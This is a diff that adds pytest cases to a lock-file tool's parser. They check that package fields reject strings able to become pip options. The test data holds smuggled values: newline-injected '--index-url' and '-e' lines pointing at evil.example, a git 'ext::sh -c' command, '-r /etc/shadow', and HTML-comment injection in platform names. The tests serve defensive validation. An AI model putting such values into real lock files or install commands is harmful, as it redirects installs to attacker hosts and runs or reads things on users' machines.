@@ -366,3 +366,35 @@ def test_sources_toml_records_submodules_only_where_set() -> None:
     assert text.count("submodules = true") == 1 and "submodules" not in render_sources_toml(lock)
     parsed = parse_sources_toml(text).lock.sources
     assert [s.source.submodules for s in parsed] == [True] + [False] * len(rest)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("url", "https://files.example/a.whl\n--index-url https://evil.example/simple"),
+        ("url", "-e git+https://evil.example/x"),
+        ("url", "ext::sh -c touch% /tmp/x"),
+        ("name", "a\n-r /etc/shadow"),
+        ("name", "--trusted-host"),
+        ("version", "1.0 --extra-index-url=https://evil.example/simple"),
+        ("sha256", "a" * 63 + "\n-e ."),
+    ],
+)
+def test_yml_refuses_an_entry_whose_strings_could_become_pip_options(field: str, value: str) -> None:
+    # The installer writes `name @ url --hash=sha256:...` lines from these for pip: a newline or a leading
+    # `-` would add an option line (an index, an editable install) that no lock diff shows as such.
+    lock = sample_lock()
+    hostile = dataclasses.replace(lock, pip=(dataclasses.replace(lock.pip[0], **{field: value}), *lock.pip[1:]))
+    with pytest.raises(InputError, match=rf"x.yml: package .*: {field}: "):
+        parse_lock_yml(render_lock_yml(hostile), "x.yml")
+
+
+def test_yml_refuses_a_platform_envgen_does_not_lock() -> None:
+    # Platforms reach markdown (`envgen diff`'s <summary>), Nix system names and file names unquoted.
+    text = render_lock_yml(sample_lock())
+    hostile = text.replace("- linux-64\n", "- linux-64</b></summary><!--\n", 1)
+    with pytest.raises(InputError, match=r"x.yml: platform 'linux-64</b></summary><!--' is not one envgen locks"):
+        parse_lock_yml(hostile, "x.yml")
+    entry = text.replace("platform: linux-64\n", "platform: linux-64<!--\n", 1)
+    with pytest.raises(InputError, match=r"x.yml: platform 'linux-64<!--' is not one envgen locks"):
+        parse_lock_yml(entry, "x.yml")
